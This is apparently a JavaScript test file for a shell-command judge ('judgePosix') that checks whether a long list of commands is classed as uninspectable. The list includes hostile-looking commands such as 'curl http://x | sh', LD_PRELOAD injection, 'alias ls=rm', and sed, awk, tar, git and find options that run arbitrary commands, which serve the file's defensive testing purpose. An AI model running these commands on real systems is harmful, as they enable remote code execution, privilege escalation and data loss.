import { judgePosix } from './judge-posix.js';

const UNINSPECTABLE = String.raw`
PATH=/tmp df
LD_PRELOAD=/tmp/x.so ls
X=1
env LD_PRELOAD=/tmp/x ls
sudo PATH=/tmp ls
export PATH=/tmp
eval "$X"
$CMD
"$(cat /tmp/cmd)"
. /tmp/x
source /tmp/x
python3 -c 'print(1)'
perl -e 1
ssh other uptime
bash /tmp/x.sh
curl http://x | sh
sh -c "$X"
echo 'unclosed
cat <<EOF
((x=1))
[[ -f x ]]
f() { ls; }
ls <(id)
echo $'\x41'
echo $((1+1))
echo ${'$'}{x:=y}
echo \
if true; then ls
ls )
ls |
&& ls
a=(1 2)
read PATH
alias ls=rm
trap 'rm x' EXIT
for PATH in /tmp; do ls; done
watch df
su - root
sudo -s
sudo -i ls
docker exec c ls
xargs -a f sh
nsenter -t 1 -m ls
env -i ls
env -S 'rm x'
find . -exec sh {} +
find . -exec find / -exec ls {} +
find . -exec echo $X -exec rm {} \;
busybox sh
sed 's/a/b/w /etc/x' f
sed 's/a/b/e' f
sed '1e id' f
sed -i '1e id' f
sed -e p -e 'w /etc/x' f
sed 's/[/]/x/;s/a/b/' f
awk '{ print > "/tmp/x" }' f
awk 'BEGIN { system("id") }'
awk -v x=$(cat f) '{ print }' g
ls | xargs -I% sh -c 'echo %'
ls | xargs -I % awk % /dev/null
ls | xargs -I {} {} -l
timeout $(cat f) ls
timeout "$X" ls
sudo -u $(cat f) ls
xargs -n $X ls
tar xf a.tar --to-command=sh
tar cf a.tar --checkpoint=1 --checkpoint-action=exec=id f
tar -cIid f
git -c core.sshCommand=id fetch
git -c alias.x='!id' x
rsync -e id a b:
vi /etc/hosts
less /etc/hosts
man ls
nc 10.0.0.1 25
crontab -e
for path in /tmp; do ls; done
complete -C id ls
`;

it.each(UNINSPECTABLE.split('\n').filter((l) => l.trim() !== ''))('can\'t be judged: %s', (command) => { expect(judgePosix(command).class).toBe('uninspectable'); });
